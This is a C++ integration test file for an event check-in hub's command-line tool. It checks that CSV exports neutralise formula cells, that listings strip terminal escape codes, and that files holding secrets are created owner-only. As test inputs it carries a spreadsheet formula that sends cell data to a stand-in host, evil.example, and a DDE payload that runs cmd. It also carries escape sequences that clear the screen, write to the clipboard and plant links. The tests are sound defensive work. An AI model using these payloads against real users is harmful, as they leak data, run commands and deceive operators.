// passerelle-hub under attack through its data (issue #10): cells an import brought in that a
// spreadsheet would run, escape codes in what kiosks and participants named themselves, and the
// modes of the files that hold secrets. Through the real binary, as an organiser runs it.
#include <gtest/gtest.h>
#include <sys/stat.h>

#include <string>
#include <vector>

#include "core/csv/csv_writer.h"
#include "core/util/uuid.h"
#include "sync/hub/store/sqlite_hub_store.h"
#include "tests/integration/hub_runner.h"
#include "tests/support/test_support.h"

namespace passerelle::testing {
namespace {

class HubCliSafety : public ::testing::Test {
 protected:
  void SetUp() override {
    db_ = dir_.file("hub.db").string();
    auto init = hub({"--db", db_, "init", "--event", "Safety"});
    ASSERT_EQ(init.status, 0) << init.output;
  }

  // Imports participants whose names and organisations are `cells`, one person per cell.
  void import_cells(const std::vector<std::string>& cells) {
    std::string csv = "external_id,first_name,last_name,email,organisation\n";
    for (std::size_t i = 0; i < cells.size(); ++i) {
      const std::string id = "P" + std::to_string(i);
      csv += id + ',' + csv::quote_field(cells[i]) + ",Last" + id + ',' + id + "@example.org," +
             csv::quote_field(cells[i]) + '\n';
    }
    write_file(dir_.file("in.csv"), csv);
    auto imported = hub({"--db", db_, "import", "participants", dir_.file("in.csv").string()});
    ASSERT_EQ(imported.status, 0) << imported.output;
  }

  static int mode_of(const std::string& path) {
    struct stat info {};
    if (::stat(path.c_str(), &info) != 0) return -1;
    return static_cast<int>(info.st_mode & 0777);
  }

  TempDir dir_;
  std::string db_;
};

const std::vector<std::string> kFormulae = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "-2",
                                            "@SUM(1+1)*cmd|' /C calc'!A0"};

// Every line of `csv` after the header, split at commas outside quotes, quotes removed.
std::vector<std::vector<std::string>> rows_of(const std::string& csv) {
  std::vector<std::vector<std::string>> rows;
  std::vector<std::string> row(1);
  bool quoted = false;
  for (std::size_t i = 0; i < csv.size(); ++i) {
    const char c = csv[i];
    if (quoted) {
      if (c == '"' && i + 1 < csv.size() && csv[i + 1] == '"') {
        row.back() += '"';
        ++i;
      } else if (c == '"') {
        quoted = false;
      } else {
        row.back() += c;
      }
    } else if (c == '"') {
      quoted = true;
    } else if (c == ',') {
      row.emplace_back();
    } else if (c == '\r' && i + 1 < csv.size() && csv[i + 1] == '\n') {
      rows.push_back(std::move(row));
      row.assign(1, "");
      ++i;
    } else {
      row.back() += c;
    }
  }
  rows.erase(rows.begin());  // the header
  return rows;
}

bool no_cell_is_a_formula(const std::vector<std::vector<std::string>>& rows, std::string& bad) {
  for (const auto& row : rows)
    for (const auto& cell : row)
      if (!cell.empty() && std::string_view("=+-@\t\r").find(cell.front()) != std::string_view::npos) {
        bad = cell;
        return false;
      }
  return true;
}

TEST_F(HubCliSafety, ExportsWriteFormulaCellsAsTextAndOwnerOnly) {
  import_cells(kFormulae);
  const std::string attendance = dir_.file("attendance.csv").string();
  const std::string badges = dir_.file("badges.csv").string();
  auto exported = hub({"--db", db_, "export", "attendance", attendance});
  ASSERT_EQ(exported.status, 0) << exported.output;
  auto codes = hub({"--db", db_, "export", "badges", badges});
  ASSERT_EQ(codes.status, 0) << codes.output;

  for (const auto& path : {attendance, badges}) {
    const auto rows = rows_of(read_file(path));
    ASSERT_EQ(rows.size(), kFormulae.size()) << path;
    std::string bad;
    EXPECT_TRUE(no_cell_is_a_formula(rows, bad)) << path << ": " << bad;
    // The text itself is all there, behind the apostrophe: first_name is the second column.
    for (const auto& row : rows) {
      const std::size_t index = std::stoul(row[0].substr(1));
      EXPECT_EQ(row[1], "'" + kFormulae[index]) << path;
    }
    EXPECT_EQ(mode_of(path), 0600) << path << ": personal data and badge codes";
  }
  // The organisation column of the attendance export too.
  for (const auto& row : rows_of(read_file(attendance)))
    EXPECT_EQ(row[3], "'" + kFormulae[std::stoul(row[0].substr(1))]);
}

// What the importer reads is what the export showed, without the apostrophe it added: a
// re-import of an export is not a round trip (docs/import.md, "Exported files").
TEST_F(HubCliSafety, TheImporterKeepsALeadingApostrophe) {
  import_cells({"'t Hooft"});
  const std::string attendance = dir_.file("attendance.csv").string();
  ASSERT_EQ(hub({"--db", db_, "export", "attendance", attendance}).status, 0);
  const auto rows = rows_of(read_file(attendance));
  ASSERT_EQ(rows.size(), 1u);
  EXPECT_EQ(rows[0][1], "'t Hooft");
}

TEST_F(HubCliSafety, ListingsPrintNoControlCharacters) {
  {
    auto store = hub::SqliteHubStore::open(db_);
    ASSERT_TRUE(store) << store.error().message;
    auto event = (*store)->resolve_event(std::nullopt);
    ASSERT_TRUE(event);
    auto code = (*store)->create_enrolment_code(*event, 60'000, "");
    ASSERT_TRUE(code);
    // ESC [2J clears the screen; C1 CSI (U+009B) does the same on 8-bit terminals; a bare CR
    // overwrites the line before it.
    auto answer = (*store)->enrol({code->code,
                                   "Door\x1b[2J\xc2\x9b"
                                   "2J\rfake\x07\x7f",
                                   {},
                                   0});
    ASSERT_TRUE(answer) << answer.error().message;
    auto principal = (*store)->authenticate(answer->token)->principal;
    sync::IncomingBatch batch;
    batch.device_id = answer->device_id;
    sync::IncomingEntry incoming;
    incoming.raw_json = "{\"uuid\": \"\x1b]52;c;ZXZpbA==\x07\", \"seq\": 1, \"junk\": \"\x1b[31m\"}";
    incoming.error = "bad entry \x1b[2J";
    incoming.uuid = "\x1b[1Auuid";
    incoming.seq = 1;
    batch.entries.push_back(incoming);
    auto stored = (*store)->ingest(principal, batch);
    ASSERT_TRUE(stored) << stored.error().message;
    ASSERT_EQ(stored->statuses.size(), 1u);
    EXPECT_EQ(stored->statuses[0].status, sync::EntryStatus::quarantined);
  }
  for (const auto& command :
       std::vector<std::vector<std::string>>{{"devices"}, {"quarantine", "--raw"}, {"reconciliation"}}) {
    std::vector<std::string> arguments{"--db", db_};
    arguments.insert(arguments.end(), command.begin(), command.end());
    auto listed = hub(arguments);
    ASSERT_EQ(listed.status, 0) << listed.output;
    EXPECT_EQ(listed.output.find('\x1b'), std::string::npos) << command[0] << ": " << listed.output;
    EXPECT_EQ(listed.output.find("\xc2\x9b"), std::string::npos) << command[0];
    EXPECT_EQ(listed.output.find('\r'), std::string::npos) << command[0];
    EXPECT_EQ(listed.output.find('\x07'), std::string::npos) << command[0];
    EXPECT_EQ(listed.output.find('\x7f'), std::string::npos) << command[0];
  }
  auto devices = hub({"--db", db_, "devices"});
  EXPECT_NE(devices.output.find("Door\xEF\xBF\xBD[2J"), std::string::npos) << devices.output;
}

TEST_F(HubCliSafety, SearchAndCheckinPrintNoControlCharacters) {
  import_cells({"Eve\x1b[2J\x1b]8;;http://evil.example\x07"});
  auto found = hub({"--db", db_, "search", "Eve"});
  ASSERT_EQ(found.status, 0) << found.output;
  EXPECT_EQ(found.output.find('\x1b'), std::string::npos) << found.output;
  auto checked = hub({"--db", db_, "checkin", "--manual", "P0", "--operator", "desk"});
  EXPECT_EQ(checked.status, 0) << checked.output;
  EXPECT_EQ(checked.output.find('\x1b'), std::string::npos) << checked.output;
}

// A refused import lists each bad row on a line of its own, and a cell's own line break or escape
// code (quoted CSV may hold both) cannot forge one: both imports, participants and B2B.
TEST_F(HubCliSafety, RowErrorsAreOneLineEachAndCellsCannotForgeOne) {
  write_file(dir_.file("people.csv"),
             "external_id,first_name,last_name,country\n"
             "P1,Ann,A,\"ZZ\nP9: fake line\x1b[2J\"\nP2,Bob,B,YY\n");
  const auto people = hub({"--db", db_, "import", "participants", dir_.file("people.csv").string()});
  EXPECT_EQ(people.status, 3) << people.output;
  EXPECT_EQ(people.output.find('\x1b'), std::string::npos) << people.output;
  EXPECT_EQ(people.output.find("\nP9: fake line"), std::string::npos) << people.output;
  EXPECT_NE(people.output.find("people.csv: line 2, column 'country'"), std::string::npos) << people.output;
  EXPECT_NE(people.output.find("people.csv: line 4, column 'country': unknown country 'YY'"), std::string::npos)
      << people.output;
  EXPECT_NE(people.output.find("2 rows have errors; nothing was imported"), std::string::npos) << people.output;

  write_file(dir_.file("people.csv"), "external_id,first_name,last_name\nP1,Ann,A\n");
  ASSERT_EQ(hub({"--db", db_, "import", "participants", dir_.file("people.csv").string()}).status, 0);
  write_file(dir_.file("meetings.csv"), "a,b\nP1,\"X\nP1,P2: fake line\x1b[2J\"\n");
  const auto meetings = hub({"--db", db_, "import", "meetings", dir_.file("meetings.csv").string()});
  EXPECT_EQ(meetings.status, 3) << meetings.output;
  EXPECT_EQ(meetings.output.find('\x1b'), std::string::npos) << meetings.output;
  EXPECT_EQ(meetings.output.find("\nP1,P2: fake line"), std::string::npos) << meetings.output;
  EXPECT_NE(meetings.output.find("meetings.csv: line 2, column 'b': no participant 'X"), std::string::npos)
      << meetings.output;
}

// Secrets at rest: the event file (signing keys), a kiosk bundle (the registry) and the
// enrolment ticket's PNG (a credential) are their owner's only from the start.
TEST_F(HubCliSafety, FilesHoldingSecretsAreOwnerOnly) {
  EXPECT_EQ(mode_of(db_), 0600);
  const std::string bundle = dir_.file("kiosk.db").string();
  auto exported = hub({"--db", db_, "export-kiosk", bundle});
  ASSERT_EQ(exported.status, 0) << exported.output;
  EXPECT_EQ(mode_of(bundle), 0600);
  const std::string png = dir_.file("enrol.png").string();
  auto enrolled = hub({"--db", db_, "enrol", "--hub-url", "https://hub.example:8443", "--no-pin", "--png", png});
  ASSERT_EQ(enrolled.status, 0) << enrolled.output;
  EXPECT_EQ(mode_of(png), 0600);
  // Under a permissive umask too: the mode is set at creation, not left to the umask.
  const std::string second = dir_.file("second.db").string();
  auto created = hub({"--db", second, "init", "--event", "Other"}, "umask 000;");
  ASSERT_EQ(created.status, 0) << created.output;
  EXPECT_EQ(mode_of(second), 0600);
}

}  // namespace
}  // namespace passerelle::testing
